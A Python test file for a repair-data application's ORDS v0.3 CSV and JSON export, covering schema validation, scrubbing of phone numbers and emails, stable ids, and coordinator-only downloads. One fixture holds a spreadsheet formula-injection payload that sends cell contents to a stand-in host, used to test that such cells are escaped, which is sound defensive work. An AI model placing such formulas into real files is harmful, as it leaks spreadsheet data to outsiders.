"""The ORDS v0.3 export: rows, CSV and JSON writers, and the coordinators' download.

Every exported row is validated against ``repairlocale/repairs/ords_schema.py`` (the
standard's column specification, kept in the project); a separate test compares
that copy with the published ``tableschema.json`` when it is at hand.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
from decimal import Decimal, InvalidOperation
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.urls import reverse

from repairlocale.network.models import Organisation
from repairlocale.network.tests.factories import OrganisationFactory
from repairlocale.repairs import exports
from repairlocale.repairs.exports import (
    OWN_PROVIDER,
    escape_formula,
    iter_ords_csv,
    iter_ords_json,
    ords_id,
    ords_row,
    ords_rows,
    records_for_export,
    scrub_problem,
    unescape_cell,
    write_ords_csv,
    write_ords_json,
)
from repairlocale.repairs.models import (
    BarrierDetail,
    ProductCategory,
    RepairBarrier,
    RepairRecord,
    RepairRecordSource,
    RepairStatus,
)
from repairlocale.repairs.ords_schema import (
    ORDS_COLUMNS,
    ORDS_FIELDS,
    REPAIR_BARRIERS,
)

PUBLISHED_SCHEMA = Path(__file__).parents[4] / "shared/data/ords/tableschema.json"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Philips")'


# --- Records ----------------------------------------------------------------------


def make_record(**fields) -> RepairRecord:
    """A repair record shaped like an imported ORDS row unless told otherwise."""
    category = fields.pop("category", "Coffee maker")
    values = {
        "source": RepairRecordSource.IMPORTED,
        "data_provider": "Repair Connects",
        "country": "BEL",
        "partner_product_category": "Koffiezet",
        "product_category": ProductCategory.objects.get(ords_name=category),
        "repair_status": RepairStatus.FIXED,
        "group_identifier": "Repair Café Gent",
        "event_date": datetime.date(2022, 3, 10),
        **fields,
    }
    return RepairRecord.objects.create(**values)


def build_records() -> SimpleNamespace:
    """Imported and own records covering every rule of the export."""
    cirkel = OrganisationFactory(name="Kringwinkel De Cirkel")
    cafe = OrganisationFactory(
        name="Repair Café Brugge", type=Organisation.Type.REPAIR_CAFE
    )
    imported = make_record(
        external_id="repconn_101",
        partner_product_category="Aircon/dehumidifier",
        category="Aircon/dehumidifier",
        brand="Delonghi",
        year_of_manufacture=2006,
        product_age=Decimal("15.0"),
        repair_status=RepairStatus.END_OF_LIFE,
        repair_barrier=RepairBarrier.LACK_OF_EQUIPMENT,
        group_identifier="Maakbaar Leuven",
        problem="Start niet. Mail jan.peeters@telenet.be of bel 0470 12 34 56.",
    )
    duplicate = make_record(
        data_provider="The Restart Project",
        external_id="restart_555",
        partner_product_category="Aircon/dehumidifier ~ Dehumidifier",
        category="Aircon/dehumidifier",
        brand="Delonghi",
        repair_status=RepairStatus.END_OF_LIFE,
        group_identifier="Maakbaar Leuven",
        problem="Start niet.",
        likely_duplicate_of=imported,
    )
    workshop = make_record(
        source=RepairRecordSource.WORKSHOP,
        data_provider=OWN_PROVIDER,
        external_id="repairlocale_RAD-000001_3",
        organisation=cirkel,
        partner_product_category="Koffiezetapparaat",
        brand=FORMULA,
        year_of_manufacture=2019,
        product_age=Decimal("7"),
        repair_status=RepairStatus.END_OF_LIFE,
        barrier_detail=BarrierDetail.CAUSE_NOT_FOUND,
        group_identifier="Kringwinkel De Cirkel",
        event_date=datetime.date(2026, 3, 5),
        problem="Lekt. Klant: +32 (0)50 12 34 56 / 050/12.34.56, gekocht 05/03/2021.",
    )
    misc = make_record(
        source=RepairRecordSource.REPAIR_CAFE,
        data_provider=OWN_PROVIDER,
        external_id="repairlocale-rc-7-1",
        organisation=cafe,
        partner_product_category="",
        category="Misc",
        brand="",
        product_age=Decimal("2.5"),
        repair_status=RepairStatus.REPAIRABLE,
        barrier_detail=BarrierDetail.TOO_COMPLEX,  # not End of life: not exported
        group_identifier="",
        event_date=datetime.date(2026, 3, 6),
        problem="- schakelaar hapert",
    )
    worn = make_record(
        source=RepairRecordSource.WORKSHOP,
        data_provider=OWN_PROVIDER,
        external_id="repairlocale_RAD-000002_2",
        organisation=cirkel,
        partner_product_category="Stofzuiger",
        category="Vacuum",
        brand="+Plus",
        repair_status=RepairStatus.END_OF_LIFE,
        repair_barrier=RepairBarrier.ITEM_TOO_WORN_OUT,
        barrier_detail=BarrierDetail.NOT_WORTH_IT,  # the barrier recorded wins
        group_identifier="Kringwinkel De Cirkel",
        event_date=datetime.date(2026, 4, 1),
        problem="@home gebruikt; dochter: +31 6 12345678",
    )
    return SimpleNamespace(
        cirkel=cirkel,
        cafe=cafe,
        imported=imported,
        duplicate=duplicate,
        workshop=workshop,
        misc=misc,
        worn=worn,
    )


@pytest.fixture
def records(db):
    return build_records()


def export_csv(queryset=None, **kwargs) -> str:
    out = io.StringIO()
    rows = ords_rows(records_for_export() if queryset is None else queryset, **kwargs)
    write_ords_csv(rows, out)
    return out.getvalue()


def read_csv(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    assert reader.fieldnames == list(ORDS_COLUMNS)
    return rows


def by_id(rows):
    return {row["id"]: row for row in rows}


# --- A validator for the schema copy ------------------------------------------------

_INTEGER = re.compile(r"^[+-]?[0-9]+$")
_NUMBER = re.compile(r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)$")


def _type_error(kind: str, spec: dict, cell: str) -> str | None:
    if kind == "integer" and not _INTEGER.match(cell):
        return "not an integer"
    if kind == "number":
        try:
            Decimal(cell)
        except InvalidOperation:
            return "not a number"
        if not _NUMBER.match(cell):
            return "not a plain decimal number"
    if kind == "date":
        try:
            datetime.datetime.strptime(cell, spec["format"])
        except ValueError:
            return "not a yyyy-mm-dd date"
    return None


def schema_errors(row: dict[str, str]) -> list[str]:
    """What is wrong with one CSV row (all cells text), per ``ORDS_FIELDS``."""
    errors = []
    if list(row) != list(ORDS_COLUMNS):
        errors.append(f"columns {list(row)}")
    for name, spec in ORDS_FIELDS.items():
        cell = row.get(name)
        if cell is None:
            continue
        if cell in spec.get("missing_values", ("",)) or cell == "":
            if spec["required"]:
                errors.append(f"{name}: required, missing")
            continue
        problem = _type_error(spec["type"], spec, cell)
        if problem:
            errors.append(f"{name}: {cell!r} {problem}")
        if "pattern" in spec and not re.search(spec["pattern"], cell):
            errors.append(f"{name}: {cell!r} does not match {spec['pattern']}")
        if "enum" in spec and cell not in spec["enum"]:
            errors.append(f"{name}: {cell!r} not one of {spec['enum']}")
        if len(cell) < spec.get("min_length", 0):
            errors.append(f"{name}: {cell!r} too short")
        if len(cell) > spec.get("max_length", len(cell)):
            errors.append(f"{name}: {cell!r} too long")
    return errors


def assert_valid(rows: list[dict[str, str]]) -> None:
    errors = {row["id"]: schema_errors(row) for row in rows}
    assert {k: v for k, v in errors.items() if v} == {}
    ids = [row["id"] for row in rows]
    assert len(ids) == len(set(ids)), "ids must be unique"


def test_the_validator_catches_what_breaks_the_schema():
    good = {
        "id": "repconn-1",
        "data_provider": "Repair Connects",
        "country": "BEL",
        "partner_product_category": "Koffiezet",
        "product_category": "Coffee maker",
        "product_category_id": "36",
        "brand": "Unknown",
        "year_of_manufacture": "",
        "product_age": "",
        "repair_status": "Fixed",
        "repair_barrier_if_end_of_life": "",
        "group_identifier": "Repair Café Gent",
        "event_date": "2022-03-10",
        "problem": "",
    }
    assert schema_errors(good) == []
    for name, bad in [
        ("id", "repconn_1"),
        ("country", "BE"),
        ("product_category_id", "x"),
        ("product_category_id", "136"),
        ("year_of_manufacture", "????"),
        ("product_age", "15 jaar"),
        ("repair_status", "Repaired"),
        ("repair_barrier_if_end_of_life", "Item too worn out"),
        ("event_date", "10/03/2022"),
        ("group_identifier", ""),
    ]:
        assert schema_errors({**good, name: bad}), (name, bad)


# --- The schema copy and the standard ---------------------------------------------


def test_the_columns_are_the_standards_14_in_order():
    assert ORDS_COLUMNS == (
        "id",
        "data_provider",
        "country",
        "partner_product_category",
        "product_category",
        "product_category_id",
        "brand",
        "year_of_manufacture",
        "product_age",
        "repair_status",
        "repair_barrier_if_end_of_life",
        "group_identifier",
        "event_date",
        "problem",
    )


def _enum(value) -> tuple[str, ...]:
    """The published enums are one string, "[Fixed, Repairable, …]"."""
    if isinstance(value, list):
        return tuple(value)
    return tuple(part.strip() for part in value.strip("[]").split(","))


@pytest.mark.skipif(
    not PUBLISHED_SCHEMA.exists(), reason=f"{PUBLISHED_SCHEMA} is not at hand"
)
def test_the_schema_copy_agrees_with_the_published_tableschema():
    package = json.loads(PUBLISHED_SCHEMA.read_text(encoding="utf-8"))
    resource = next(
        r for r in package["resources"] if r["name"].startswith("OpenRepairData_v0.3")
    )
    schema = resource["schema"]
    assert schema["primaryKey"] == "id"
    published = schema["fields"]
    assert [f["name"] for f in published] == list(ORDS_COLUMNS)
    for field in published:
        spec = ORDS_FIELDS[field["name"]]
        constraints = field.get("constraints", {})
        assert spec["type"] == field["type"], field["name"]
        assert spec.get("pattern") == constraints.get("pattern"), field["name"]
        if "enum" in constraints:
            assert spec["enum"] == _enum(constraints["enum"]), field["name"]
        else:
            assert "enum" not in spec, field["name"]
        if "minimum" in constraints:
            assert spec["min_length"] == int(constraints["minimum"])
            assert spec["max_length"] == int(constraints["maximum"])
        assert tuple(field.get("missingValues", ())) == tuple(
            spec.get("missing_values", ())
        ), field["name"]
        optional = "Optional" in field.get("description", "")
        assert spec["required"] is not optional, field["name"]
        assert spec.get("unique", False) == (
            str(constraints.get("unique", "")).lower() == "true"
        )
    assert ORDS_FIELDS["event_date"]["format"] == "%Y-%m-%d"
    assert next(f for f in published if f["name"] == "event_date")["format"] == (
        "yyyy-mm-dd"
    )


def test_every_barrier_we_record_is_exported_in_the_schemas_spelling():
    end_of_life = RepairStatus.END_OF_LIFE
    for barrier in RepairBarrier:
        assert exports._barrier(end_of_life, barrier, "") in REPAIR_BARRIERS
    for detail in BarrierDetail:
        assert exports._barrier(end_of_life, "", detail) in REPAIR_BARRIERS


def test_our_provider_is_the_one_the_workshop_writes():
    from repairlocale.reuse.services import DATA_PROVIDER

    assert OWN_PROVIDER == DATA_PROVIDER


# --- CSV ------------------------------------------------------------------------------


def test_the_csv_header_is_the_schemas_field_names_in_order(records):
    header = export_csv().splitlines()[0]
    assert header.split(",") == list(ORDS_COLUMNS)


def test_every_exported_row_validates_against_the_schema(records):
    rows = read_csv(export_csv(include_duplicates=True))
    assert len(rows) == 5
    assert_valid(rows)


def test_values_follow_the_standard(records):
    rows = by_id(read_csv(export_csv()))
    assert rows["repconn-101"] == {
        "id": "repconn-101",
        "data_provider": "Repair Connects",
        "country": "BEL",
        "partner_product_category": "Aircon/dehumidifier",
        "product_category": "Aircon/dehumidifier",
        "product_category_id": "1",
        "brand": "Delonghi",
        "year_of_manufacture": "2006",
        "product_age": "15",
        "repair_status": "End of life",
        "repair_barrier_if_end_of_life": "Lack of equipment",
        "group_identifier": "Maakbaar Leuven",
        "event_date": "2022-03-10",
        "problem": "Start niet. Mail [email] of bel [phone].",
    }
    workshop = rows[f"repairlocale-{records.workshop.pk}"]
    assert workshop["data_provider"] == "Repair Locale"
    assert workshop["product_category_id"] == "36"
    assert workshop["year_of_manufacture"] == "2019"
    assert workshop["product_age"] == "7"
    # No barrier recorded: the ORDS barrier of the finer reason.
    assert workshop["repair_barrier_if_end_of_life"] == (
        "Repair information not available"
    )
    assert workshop["problem"] == "Lekt. Klant: [phone] / [phone], gekocht 05/03/2021."


def test_a_misc_item_without_brand_or_group_gets_the_standards_fallbacks(records):
    misc = by_id(read_csv(export_csv()))[f"repairlocale-{records.misc.pk}"]
    assert misc["product_category"] == "Misc"
    assert misc["product_category_id"] == "18"
    assert misc["partner_product_category"] == "Misc"
    assert misc["brand"] == "Unknown"
    assert misc["year_of_manufacture"] == ""
    assert misc["product_age"] == "2.5"
    assert misc["group_identifier"] == "Repair Café Brugge"
    # Repairable: a barrier only belongs to End of life.
    assert misc["repair_barrier_if_end_of_life"] == ""


def test_item_too_worn_out_is_written_as_the_schema_spells_it(records):
    worn = by_id(read_csv(export_csv()))[f"repairlocale-{records.worn.pk}"]
    assert worn["repair_barrier_if_end_of_life"] == "Too worn out"
    assert worn["product_age"] == ""
    assert worn["year_of_manufacture"] == ""


def test_text_cells_that_a_spreadsheet_would_run_are_escaped(records):
    rows = by_id(read_csv(export_csv()))
    assert rows[f"repairlocale-{records.workshop.pk}"]["brand"] == "'" + FORMULA
    assert rows[f"repairlocale-{records.misc.pk}"]["problem"] == "'- schakelaar hapert"
    worn = rows[f"repairlocale-{records.worn.pk}"]
    assert worn["brand"] == "'+Plus"
    assert worn["problem"] == "'@home gebruikt; dochter: [phone]"
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(exports.FORMULA_TRIGGERS), cell


def test_numbers_and_dates_are_never_escaped(records):
    row = ords_row(records.imported)
    row["product_age"] = Decimal("-1.5")
    out = io.StringIO()
    write_ords_csv([row], out)
    (written,) = read_csv(out.getvalue())
    assert written["product_age"] == "-1.5"
    assert written["product_category_id"] == "1"
    assert written["event_date"] == "2022-03-10"


@pytest.mark.parametrize(
    "value",
    [
        "=1+2",
        "+32 470",
        "-",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'=already quoted",
        "''+twice",
        "'t Stekske",
        "plain",
        "",
    ],
)
def test_escaping_is_undone_without_loss(value):
    escaped = escape_formula(value)
    assert not escaped.startswith(exports.FORMULA_TRIGGERS)
    assert unescape_cell(escaped) == value


def test_a_name_starting_with_an_apostrophe_is_left_alone():
    assert escape_formula("'t Stekske") == "'t Stekske"


# --- Problem texts ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "scrubbed"),
    [
        ("mail jan.peeters@telenet.be aub", "mail [email] aub"),
        ("Sarah.De-Smet+rc@gmail.com, dank", "[email], dank"),
        ("jan(at)telenet.be", "[email]"),
        ("bel +32 470 12 34 56", "bel [phone]"),
        ("+32 (0)9 123 45 67", "[phone]"),
        ("+32470123456", "[phone]"),
        ("0032 2 123 45 67", "[phone]"),
        ("(+32) 470 12 34 56", "[phone]"),
        ("+44 20 7946 0958", "[phone]"),
        ("+31 6 12345678", "[phone]"),
        ("+49 (0)30 1234567", "[phone]"),
        ("0470 12 34 56", "[phone]"),
        ("0470/12.34.56", "[phone]"),
        ("0470123456", "[phone]"),
        ("0470 123 456", "[phone]"),
        ("0475-12-34-56", "[phone]"),
        ("09 123 45 67", "[phone]"),
        ("02/123.45.67", "[phone]"),
        ("050/12.34.56", "[phone]"),
        ("(050) 12 34 56", "[phone]"),
        ("03 - 123 45 67", "[phone]"),
        ("016 12 34 56", "[phone]"),
        ("tel: 09/123.45.67 of jan@x.be", "tel: [phone] of [email]"),
        ("0470 12 34 56 / 050 12 34 56", "[phone] / [phone]"),
        ("+32 (0)50 12 34 56 / 050/12.34.56", "[phone] / [phone]"),
        ("050 / 12 34 56", "[phone]"),
    ],
)
def test_problem_texts_lose_email_addresses_and_phone_numbers(text, scrubbed):
    assert scrub_problem(text) == scrubbed


@pytest.mark.parametrize(
    "text",
    [
        "gekocht op 05/03/2021 14u",
        "05/03/2021 14:00",
        "2021-05-12",
        "van 09.00 - 12.30",
        "08/03 - 14/03/2022",
        "230 V, 0,5 A",
        "prijs 0.50 EUR",
        "type KDL-0470123",
        "HD7457/00",
        "192.168.0.10",
        "v0.12.34",
        "+/- 220 V",
        "3+4 = 7",
        "1.800 W, 2015, 3 jaar oud",
        "model 0123 45 67 890",
        "EAN 5412345678901",
        "",
    ],
)
def test_dates_times_and_numbers_are_not_taken_for_phone_numbers(text):
    assert scrub_problem(text) == text


# --- Ids, duplicates, filters --------------------------------------------------------


def test_ids_are_stable_across_exports_and_prefixed_with_our_provider(records):
    first = [row["id"] for row in read_csv(export_csv())]
    RepairRecord.objects.filter(pk=records.misc.pk).update(problem="Nieuwe tekst")
    make_record(external_id="repconn_102", event_date=datetime.date(2021, 1, 1))
    second = [row["id"] for row in read_csv(export_csv())]
    assert set(first) <= set(second)
    assert len(second) == len(first) + 1
    own = {records.workshop.pk, records.misc.pk, records.worn.pk}
    assert {f"repairlocale-{pk}" for pk in own} <= set(first)
    assert "repconn-101" in first


def test_an_imported_id_that_cannot_be_fixed_gets_its_providers_prefix(db):
    record = make_record(data_provider="Repair Café Gent", external_id="RC 2021/15")
    assert ords_id(record) == f"repaircafegent-{record.pk}"
    assert ords_id(make_record(external_id="REPCONN_7")) == "repconn-7"


def test_likely_duplicates_are_left_out_by_default(records):
    ids = by_id(read_csv(export_csv()))
    assert "restart-555" not in ids
    assert "repconn-101" in ids
    with_duplicates = by_id(read_csv(export_csv(include_duplicates=True)))
    assert "restart-555" in with_duplicates


def test_a_providers_own_export_keeps_its_duplicates(records):
    """Left out only when the record it duplicates is in the same export."""
    rows = read_csv(export_csv(records_for_export(providers=["The Restart Project"])))
    assert [row["id"] for row in rows] == ["restart-555"]


def test_the_period_and_provider_filters(records):
    qs = records_for_export(
        providers=[OWN_PROVIDER],
        since=datetime.date(2026, 3, 6),
        until=datetime.date(2026, 3, 31),
    )
    assert [row["id"] for row in read_csv(export_csv(qs))] == [
        f"repairlocale-{records.misc.pk}"
    ]


def test_one_record_gives_the_row_the_export_gives(records):
    rows = {row["id"]: row for row in ords_rows(records_for_export())}
    for record in [records.imported, records.workshop, records.misc, records.worn]:
        assert ords_row(record) == rows[ords_id(record)]


def test_it_streams_in_one_query(records, django_assert_num_queries):
    with django_assert_num_queries(1):
        rows = list(ords_rows(records_for_export()))
    assert len(rows) == 4


# --- JSON ------------------------------------------------------------------------


def test_json_is_an_array_of_rows_with_typed_values(records):
    out = io.StringIO()
    count = write_ords_json(ords_rows(records_for_export()), out)
    data = json.loads(out.getvalue())
    assert count == len(data) == 4
    assert all(list(row) == list(ORDS_COLUMNS) for row in data)
    row = {r["id"]: r for r in data}["repconn-101"]
    assert row["product_category_id"] == 1
    assert row["product_age"] == 15
    assert row["year_of_manufacture"] == "2006"
    assert row["event_date"] == "2022-03-10"
    assert row["problem"] == "Start niet. Mail [email] of bel [phone]."
    misc = {r["id"]: r for r in data}[f"repairlocale-{records.misc.pk}"]
    assert misc["product_age"] == 2.5
    assert misc["problem"] == "- schakelaar hapert"  # not a spreadsheet: no quote
    worn = {r["id"]: r for r in data}[f"repairlocale-{records.worn.pk}"]
    assert worn["product_age"] is None


def test_json_rows_validate_against_the_schema_too(records):
    out = io.StringIO()
    write_ords_json(ords_rows(records_for_export()), out)
    rows = [
        {k: "" if v is None else str(v) for k, v in row.items()}
        for row in json.loads(out.getvalue())
    ]
    assert_valid(rows)


def test_an_empty_export_is_valid(db):
    out = io.StringIO()
    assert write_ords_json(ords_rows(records_for_export()), out) == 0
    assert json.loads(out.getvalue()) == []
    assert read_csv(export_csv()) == []


def test_streamed_chunks_make_up_the_same_file(records, monkeypatch):
    monkeypatch.setattr(exports, "STREAM_CHUNK", 100)
    rows = list(ords_rows(records_for_export()))
    for stream, write in [
        (iter_ords_csv, write_ords_csv),
        (iter_ords_json, write_ords_json),
    ]:
        chunks = list(stream(rows))
        assert len(chunks) > 2
        out = io.StringIO()
        write(rows, out)
        assert "".join(chunks) == out.getvalue()


# --- Round trip -------------------------------------------------------------------


def test_the_csv_reads_back_into_the_records_values(records):
    rows = by_id(read_csv(export_csv(include_duplicates=True)))
    for record in RepairRecord.objects.select_related("product_category"):
        row = {k: unescape_cell(v) for k, v in rows[ords_id(record)].items()}
        category = record.product_category
        assert row["data_provider"] == record.data_provider
        assert row["country"] == record.country
        assert row["partner_product_category"] == (
            record.partner_product_category or category.ords_name
        )
        assert row["product_category"] == category.ords_name
        assert int(row["product_category_id"]) == category.ords_id
        assert row["brand"] == (record.brand or "Unknown")
        assert row["year_of_manufacture"] == str(record.year_of_manufacture or "")
        age = Decimal(row["product_age"]) if row["product_age"] else None
        assert age == record.product_age
        assert row["repair_status"] == record.repair_status
        assert datetime.date.fromisoformat(row["event_date"]) == record.event_date
        assert row["problem"] == scrub_problem(record.problem)
        if not re.search(r"@|\d{2}", record.problem):
            assert row["problem"] == record.problem
    assert rows[f"repairlocale-{records.workshop.pk}"]["brand"] == "'" + FORMULA


def _reimport(text: str, *, data_provider: str | None) -> str:
    """Import ``text`` into an empty repair table and export it again."""
    importer = pytest.importorskip("repairlocale.repairs.importer")
    import time_machine

    RepairRecord.objects.all().delete()
    # The importer refuses dates in the future; the records are dated 2026.
    with time_machine.travel(datetime.datetime(2026, 11, 27, 12, 0), tick=False):
        batch = importer.ords_import(
            source=io.BytesIO(text.encode("utf-8")),
            file_name="export.csv",
            data_provider=data_provider,
        )
    assert (batch.status, batch.rows_failed) == ("done", 0), batch.error_report
    assert batch.rows_created == len(read_csv(text))
    return export_csv(include_duplicates=True)


@pytest.mark.parametrize(
    ("providers", "override"),
    [([OWN_PROVIDER], OWN_PROVIDER), (None, None)],
    ids=["own-records-with-provider-override", "every-provider"],
)
def test_an_export_reimports_into_an_empty_database_without_loss(
    records, providers, override
):
    """Export → import → export gives the same file: same ids, same values."""
    RepairRecord.objects.filter(pk=records.workshop.pk).update(brand="Philips")
    RepairRecord.objects.filter(pk=records.misc.pk).update(problem="schakelaar hapert")
    RepairRecord.objects.filter(pk=records.worn.pk).update(
        brand="Plus", problem="thuis gebruikt; dochter: +31 6 12345678"
    )
    first = export_csv(records_for_export(providers=providers), include_duplicates=True)
    assert _reimport(first, data_provider=override) == first


def test_cells_escaped_against_formulas_survive_a_reimport(records):
    """The importer takes the apostrophe off again (``unescape_cell``)."""
    first = export_csv(records_for_export(providers=[OWN_PROVIDER]))
    assert _reimport(first, data_provider=OWN_PROVIDER) == first


# --- The download -------------------------------------------------------------------


def test_coordinators_see_the_form(client, personas, records):
    client.force_login(personas.coordinator)
    response = client.get(reverse("repairs:ords_export"))
    assert response.status_code == 200
    content = response.content.decode()
    for provider in ["Repair Connects", "Repair Locale", "The Restart Project"]:
        assert provider in content
    assert 'name="download"' in content


@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("viewer", 403),
        ("editor", 403),
        ("manager", 403),
        ("outsider", 403),
        ("hubcoordinator", 403),
        ("coordinator", 200),
        ("admin", 200),
    ],
)
def test_only_network_coordinators_export(client, personas, persona, status):
    client.force_login(getattr(personas, persona))
    url = reverse("repairs:ords_export")
    assert client.get(url).status_code == status
    assert client.get(url + "?download=1&format=csv").status_code == status


def test_anonymous_visitors_are_sent_to_the_login(client, db):
    response = client.get(reverse("repairs:ords_export") + "?download=1")
    assert response.status_code == 302
    assert "/account/aanmelden/" in response["Location"]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_download_streams_a_dated_file(client, personas, records, fmt):
    import time_machine

    client.force_login(personas.coordinator)
    with time_machine.travel(datetime.datetime(2026, 5, 4, 10, 0), tick=False):
        response = client.get(
            reverse("repairs:ords_export"),
            {"download": "1", "format": fmt, "providers": [OWN_PROVIDER]},
        )
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Disposition"] == (
        f'attachment; filename="OpenRepairData_v0.3_RepairLocale_20260504.{fmt}"'
    )
    assert "no-store" in response["Cache-Control"]
    body = b"".join(response.streaming_content).decode()
    expected = io.StringIO()
    writer = write_ords_csv if fmt == "csv" else write_ords_json
    writer(ords_rows(records_for_export(providers=[OWN_PROVIDER])), expected)
    assert body == expected.getvalue()
    if fmt == "csv":
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert len(read_csv(body)) == 3
    else:
        assert len(json.loads(body)) == 3


def test_the_download_filters_the_period_and_keeps_duplicates_on_request(
    client, personas, records
):
    client.force_login(personas.coordinator)
    response = client.get(
        reverse("repairs:ords_export"),
        {
            "download": "1",
            "format": "csv",
            "until": "2022-12-31",
            "include_duplicates": "on",
        },
    )
    body = b"".join(response.streaming_content).decode()
    assert sorted(row["id"] for row in read_csv(body)) == [
        "repconn-101",
        "restart-555",
    ]


def test_a_reversed_period_shows_the_form_again(client, personas, records):
    client.force_login(personas.coordinator)
    response = client.get(
        reverse("repairs:ords_export"),
        {"download": "1", "since": "2026-05-01", "until": "2026-01-01"},
    )
    assert response.status_code == 200
    assert not response.streaming
    assert response.context["form"].errors["until"]


def test_an_unknown_provider_is_refused(client, personas, records):
    client.force_login(personas.coordinator)
    response = client.get(
        reverse("repairs:ords_export"), {"download": "1", "providers": ["Nobody"]}
    )
    assert not response.streaming
    assert response.context["form"].errors["providers"]
